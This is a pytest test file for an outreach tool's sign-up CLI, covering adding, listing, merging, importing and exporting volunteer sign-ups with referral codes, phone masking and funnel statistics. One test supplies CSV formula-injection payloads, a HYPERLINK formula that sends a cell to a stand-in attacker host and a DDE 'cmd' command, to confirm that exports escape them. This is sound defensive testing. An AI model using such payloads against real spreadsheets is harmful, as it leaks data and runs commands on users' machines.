"""``outreach signups`` and the funnel in ``outreach stats``, as a coordinator uses them."""

from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner
from signup_support import signup_config

from outreach.cli import cli
from outreach.db import open_store
from outreach.db.models import ReferralCode, utcnow


def _config_on(tmp_path: Path, store_url: str) -> Path:
    """The sign-up test config, with its store on ``store_url``."""
    config = signup_config(tmp_path, top={"database_url": store_url})
    assert config.path is not None
    return config.path


def _with_poster_code(tmp_path: Path, store_url: str, short_code: str = "MIA-7",
                      placement: str = "Пенсионный фонд, Миасс") -> Path:
    """The sign-up test config, its store holding one poster's code (printed before)."""
    project = _config_on(tmp_path, store_url)
    store = open_store(store_url)
    with store.session() as s:
        s.add(ReferralCode(code="PosterCode1234", kind="placement", channel="press",
                           placement=placement, short_code=short_code, created_at=utcnow()))
    store.dispose()
    return project


@pytest.fixture
def project(tmp_path: Path, store_url: str) -> Path:
    return _with_poster_code(tmp_path, store_url)


def run(runner: CliRunner, project: Path, *args: str) -> object:
    return runner.invoke(cli, ["--config", str(project), *args])


def test_add_list_show_export_forget(runner: CliRunner, project: Path, tmp_path: Path) -> None:
    added = run(runner, project, "signups", "add", "--name", "Ольга Петрова", "--phone",
                "8 912 345 67 89", "--municipality", "Миасс", "--code", "mia 7")
    assert added.exit_code == 0, added.output
    assert "Added sign-up 1" in added.output

    refused = run(runner, project, "signups", "add", "--name", "Иван", "--phone",
                  "89120000002", "--code", "MAI-7")
    assert refused.exit_code == 1
    assert "Did you mean MIA-7?" in refused.output and "Traceback" not in refused.output
    kept = run(runner, project, "signups", "add", "--name", "Иван", "--phone",
               "89120000002", "--code", "MAI-7", "--unattributed")
    assert kept.exit_code == 0 and "without a code" in kept.output

    listed = run(runner, project, "signups", "list")
    assert listed.exit_code == 0, listed.output
    assert "+7 912 ***-**-89" in listed.output and "345-67-89" not in listed.output
    assert "Пенсионный фонд, Миасс" in listed.output and "unknown: MAI-7" in listed.output
    only = run(runner, project, "signups", "list", "--unattributed", "--format", "json")
    assert [r["name"] for r in json.loads(only.output)] == ["Иван"]

    shown = run(runner, project, "signups", "show", "1")
    assert "+7 912 345-67-89" in shown.output and "MIA-7" in shown.output
    # A coordinator's card says how the sign-up was taken apart from where it came from:
    # both used to read «Откуда», one of them "offline".
    card = runner.invoke(cli, ["--config", str(project), "signups", "show",
                               "1"], env={"OUTREACH_LANG": "ru"})
    lines = card.output.splitlines()
    assert lines[0].split() == ["Номер:", "1"]
    assert "Как записан: координатором (по телефону или лично)" in [
        " ".join(line.split()) for line in lines]
    assert sum(line.startswith("Откуда:") for line in lines) == 1, card.output

    out = tmp_path / "export.csv"
    no_flag = run(runner, project, "signups", "export", str(out))
    assert no_flag.exit_code == 1 and "personal" in no_flag.output and not out.exists()
    done = run(runner, project, "signups", "export", str(out),
               "--i-know-this-contains-personal-data")
    assert done.exit_code == 0, done.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    exported = list(csv.DictReader(out.open(encoding="utf-8")))
    # "+7 ..." would be a formula to Excel: 8 912 ... stays readable text.
    assert {r["phone"] for r in exported} == {"8 912 345-67-89", "8 912 000-00-02"}

    forgot = run(runner, project, "signups", "forget", "1")
    assert forgot.exit_code == 0 and "name" in forgot.output and "phone" in forgot.output
    run(runner, project, "signups", "export", str(out), "--i-know-this-contains-personal-data")
    assert len(list(csv.DictReader(out.open(encoding="utf-8")))) == 1

    stats = run(runner, project, "stats", "--format", "json")
    assert stats.exit_code == 0, stats.output
    [funnel] = [f for f in json.loads(stats.output)["funnel"] if f["placement"]]
    assert (funnel["starts"], funnel["completed"], funnel["views"]) == (1, 1, None)
    table = run(runner, project, "stats")
    assert "Sign-up funnel" in table.output and "Пенсионный фонд, Миасс" in table.output

    missing = run(runner, project, "signups", "show", "99")
    assert missing.exit_code == 1 and "no sign-up 99" in missing.output


def test_import_needs_consent_and_reports_rejected_lines(runner: CliRunner, project: Path,
                                                         tmp_path: Path) -> None:
    forms = tmp_path / "forms.csv"
    forms.write_text("name,phone,municipality,code\nОльга,89120000001,Миасс,MIA-7\n"
                     "Пётр,+1 202 555 0100,Миасс,\n", encoding="utf-8")
    refused = run(runner, project, "signups", "import", str(forms))
    assert refused.exit_code == 1 and "--consent-on-paper" in refused.output
    done = run(runner, project, "signups", "import", str(forms), "--consent-on-paper")
    assert "1 added, 0 updated, 1 rejected" in done.output
    assert "line 3:" in done.output and "Russian" in done.output
    assert done.exit_code == 1


def test_a_poster_code_entered_offline_counts_for_its_campaign_and_placement(
        runner: CliRunner, tmp_path: Path, store_url: str) -> None:
    """A person calls and reads the code on a poster placed by a campaign."""
    from outreach.db.models import Campaign
    from outreach.signups.referrals import placement_code

    project = _config_on(tmp_path, store_url)
    store = open_store(store_url)
    with store.session() as s:
        campaign = Campaign(slug="mentoring", name="Наставничество", definition_hash="0" * 64,
                            updated_at=utcnow())
        s.add(campaign)
        s.flush()
        code = placement_code(s, campaign.id, "Пенсионный фонд, Миасс, ул. Ленина, 5",
                              ["Миасс"])
        short = code.short_code
    store.dispose()

    added = run(runner, project, "signups", "add", "--name", "Ольга Петрова", "--phone",
                "+7 912 345-67-89", "--municipality", "Миасс", "--code", short.lower())
    assert added.exit_code == 0, added.output

    stats = run(runner, project, "stats", "--format", "json")
    assert stats.exit_code == 0, stats.output
    [row] = [r for r in json.loads(stats.output)["funnel"] if r["completed"]]
    assert (row["campaign"], row["placement"], row["completed"]) == (
        "mentoring", "Пенсионный фонд, Миасс, ул. Ленина, 5", 1)


def _bot_sign_up(project: Path, store_url: str, person: str, phone: str, name: str,
                 interests: str = "Наставничество") -> None:
    """A person signing up through a bot, as the service's desk takes them."""
    from outreach.channels import Incoming
    from outreach.config import load_config
    from outreach.signups.desk import YES, StoreDesk

    store = open_store(store_url)
    desk = StoreDesk(store, load_config(project))
    for message in (Incoming(person=person, started=True), Incoming(person=person, text=name),
                    Incoming(person=person, choice="Миасс"), Incoming(person=person, text=phone),
                    Incoming(person=person, text=interests), Incoming(person=person, choice=YES)):
        desk.handle("tg", message)
    store.dispose()


def test_duplicates_are_listed_then_merged_or_kept_apart(runner: CliRunner, project: Path,
                                                         store_url: str) -> None:
    run(runner, project, "signups", "add", "--name", "Мария Иванова", "--phone",
        "+7 912 345-67-89", "--municipality", "Миасс")
    _bot_sign_up(project, store_url, "666", "89123456789", "Пётр Чужой")
    added = run(runner, project, "signups", "add", "--name", "Иван Петров", "--phone",
                "8 351 200-00-01")
    wife = run(runner, project, "signups", "add", "--name", "Анна Петрова", "--phone",
               "8 351 200-00-01")
    assert wife.exit_code == 0 and "same phone is on sign-up 3" in wife.output
    assert added.exit_code == 0

    listed = run(runner, project, "signups", "list", "--duplicates", "--format", "json")
    assert listed.exit_code == 0, listed.output
    groups = [(r["group"], r["id"], r["phone_from"]) for r in json.loads(listed.output)]
    assert groups == [(1, 1, "coordinator"), (1, 2, "typed"), (2, 3, "coordinator"),
                      (2, 4, "coordinator")]
    table = run(runner, project, "signups", "list", "--duplicates")
    assert "+7 912 ***-**-89" in table.output and "345-67-89" not in table.output
    shown = run(runner, project, "signups", "show", "1")
    assert [line.split()[-1] for line in shown.output.splitlines()
            if line.startswith("Same phone as")] == ["2"]

    apart = run(runner, project, "signups", "keep-apart", "3", "4")
    assert apart.exit_code == 0, apart.output
    merged = run(runner, project, "signups", "merge", "1", "2")
    assert merged.exit_code == 0 and "Merged sign-up 2 into 1" in merged.output
    assert "No sign-ups share a phone." in run(runner, project, "signups", "list",
                                                "--duplicates").output
    again = run(runner, project, "signups", "merge", "1", "2")
    assert again.exit_code == 1 and "sign-up 2 is merged" in again.output
    both = run(runner, project, "signups", "list", "--duplicates", "--unfinished")
    assert both.exit_code == 2 and "one of them" in both.output


def test_unfinished_sign_ups_are_listed_without_what_was_said(runner: CliRunner, project: Path,
                                                              store_url: str) -> None:
    from outreach.channels import Incoming
    from outreach.config import load_config
    from outreach.signups.desk import StoreDesk

    store = open_store(store_url)
    desk = StoreDesk(store, load_config(project))
    for message in (Incoming(person="9", started=True), Incoming(person="9", text="Иван Сидоров"),
                    Incoming(person="9", choice="Миасс"), Incoming(person="9", text="89123450000")):
        desk.handle("tg", message)
    store.dispose()
    for fmt in ("table", "json", "csv"):
        listed = run(runner, project, "signups", "list", "--unfinished", "--format", fmt)
        assert listed.exit_code == 0, listed.output
        # The step the dialog stopped at: in words in a table, its identifier for scripts.
        step = "what they would help with" if fmt == "table" else "interests"
        assert step in listed.output
        assert "erased after" in listed.output.lower().replace("_", " ")
        assert "Иван" not in listed.output and "345" not in listed.output
        assert "Миасс" not in listed.output
    listed = run(runner, project, "signups", "list").output
    assert "started" in listed and "Иван" not in listed and "***" not in listed
    russian = runner.invoke(cli, ["--config", str(project), "signups", "list", "--unfinished"],
                            env={"OUTREACH_LANG": "ru"}).output
    assert "чем хочет помогать" in russian and "interests" not in russian, russian


def test_exports_never_carry_a_formula(runner: CliRunner, project: Path, store_url: str,
                                       tmp_path: Path) -> None:
    """Cells a coordinator's Excel would run are written as text; phones stay readable."""
    _bot_sign_up(project, store_url, "7", "89120000007", "Анна",
                 interests='=HYPERLINK("http://evil.example/?"&A1,"Подробнее")')
    forms = tmp_path / "forms.csv"
    forms.write_text("name;phone;municipality;interests;code\n"
                     "Ольга;89120000001;Миасс;+cmd|' /C calc'!A0;\n"
                     "Пётр;89120000002;@SUM(1+1);-2+3;\n", encoding="utf-8")
    imported = run(runner, project, "signups", "import", str(forms), "--consent-on-paper",
                   "--unattributed")
    assert imported.exit_code == 0, imported.output
    out = tmp_path / "export.csv"
    done = run(runner, project, "signups", "export", str(out),
               "--i-know-this-contains-personal-data")
    assert done.exit_code == 0, done.output
    exported = {r["name"]: r for r in csv.DictReader(out.open(encoding="utf-8"))}
    assert exported["Анна"]["interests"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,' \
        '"Подробнее")'
    assert exported["Ольга"]["interests"] == "'+cmd|' /C calc'!A0"
    assert (exported["Пётр"]["municipality"], exported["Пётр"]["interests"]) == (
        "'@SUM(1+1)", "'-2+3")
    assert {r["phone"] for r in exported.values()} == {
        "8 912 000-00-07", "8 912 000-00-01", "8 912 000-00-02"}
    for row in exported.values():  # no cell of any column starts a formula
        assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
    listed = run(runner, project, "signups", "list", "--format", "csv")
    assert "'=HYPERLINK" not in listed.output  # the list shows no interests
    assert "8 912 ***-**-07" in listed.output and "+7" not in listed.output
    # What the bot and the import stored is the text as given, never altered.
    store = open_store(store_url)
    with store.session() as s:
        from sqlmodel import select

        from outreach.db.models import SignUp

        stored = {r.name: r.interests for r in s.exec(select(SignUp))}
    store.dispose()
    assert stored["Ольга"] == "+cmd|' /C calc'!A0" and stored["Пётр"] == "-2+3"


def test_list_says_where_people_live_and_what_brought_them(
        runner: CliRunner, workdir: Path, store_url: str) -> None:
    """Sign-ups from a post, a poster, a newspaper, the phone and a bot without a code."""
    from stats_support import at, code, seeded_project, signup

    from outreach.db.models import SignUp

    seeded_project(workdir, store_url)
    store = open_store(store_url)
    with store.session() as s:
        paper = code(s, "outlet-1", kind="outlet", channel="press",
                     placement="Миасский рабочий")
        signup(s, at("10-20"), paper, "Златоуст")
        s.add(SignUp(created_at=at("10-21"), source="offline", municipality="Копейск"))
    store.dispose()

    data = json.loads(runner.invoke(cli, ["signups", "list", "--format", "json"]).output)
    seen = {(r["municipality"], r["came_from"], r["campaign"], r["channel"], r["story_title"],
             r["placement"]) for r in data if r["created"] >= "2026-10-06"}
    assert seen == {
        ("Челябинск", "publication", "mentoring", "vk", "Школа №5", None),
        (None, "publication", "mentoring", "vk", "Школа №5", None),
        (None, "publication", "mentoring", "telegram", "Школа №5", None),
        ("Миасс", "placement", "walking", "press", None, "Пенсионный фонд, Миасс, ул. Ленина 5"),
        ("Миасс", "unattributed", None, None, None, None),
        ("Златоуст", "outlet", None, "press", None, "Миасский рабочий"),
        ("Копейск", "offline", None, None, None, None)}
    assert all(isinstance(r["story"], int) for r in data if r["came_from"] == "publication")

    rows = list(csv.DictReader(io.StringIO(runner.invoke(
        cli, ["signups", "list", "--format", "csv", "--municipality", " миасс "]).output)))
    assert [(r["municipality"], r["came_from"]) for r in rows] == [
        ("Миасс", "unattributed"), ("Миасс", "placement")]
    since = json.loads(runner.invoke(cli, ["signups", "list", "--format", "json", "--since",
                                           "2026-10-16", "--campaign", "walking"]).output)
    assert since == []
    walking = json.loads(runner.invoke(cli, ["signups", "list", "--format", "json",
                                             "--campaign", "walking"]).output)
    assert [r["placement"] for r in walking] == ["Пенсионный фонд, Миасс, ул. Ленина 5"]

    table = runner.invoke(cli, ["signups", "list", "--municipality", "Миасс"],
                          env={"OUTREACH_LANG": "ru"})
    assert table.exit_code == 0, table.output
    assert "ГДЕ ЖИВЁТ" in table.output and "ОТКУДА" in table.output
    assert "плакат или стенд «Пенсионный фонд, Миасс, ул. Ленина 5»" in table.output
    assert "без кода" in table.output
    posts = runner.invoke(cli, ["signups", "list", "--campaign", "mentoring"],
                          env={"OUTREACH_LANG": "ru"})
    assert "пост «Школа №5»" in posts.output

    for option, wrong, meant in (("--municipality", "Миас", "Миасс"),
                                 ("--campaign", "mentorng", "mentoring")):
        refused = runner.invoke(cli, ["signups", "list", option, wrong],
                                env={"OUTREACH_LANG": "ru"})
        assert refused.exit_code == 1, refused.output
        assert f"«{meant}»" in refused.output or f"'{meant}'" in refused.output
        assert "Traceback" not in refused.output


def test_a_latin_poster_code_typed_in_russian_letters_is_found(runner: CliRunner,
                                                               tmp_path: Path,
                                                               store_url: str) -> None:
    """CHE-1 on a poster reads as СНЕ-1: a phone sign-up typed so keeps its source."""
    project = _with_poster_code(tmp_path, store_url, "CHE-1", "Соцзащита, Челябинск")
    added = run(runner, project, "signups", "add", "--name", "Ольга", "--phone",
                "89120000001", "--code", "сне-1")
    assert added.exit_code == 0, added.output
    shown = run(runner, project, "signups", "show", "1")
    assert "CHE-1" in shown.output, shown.output
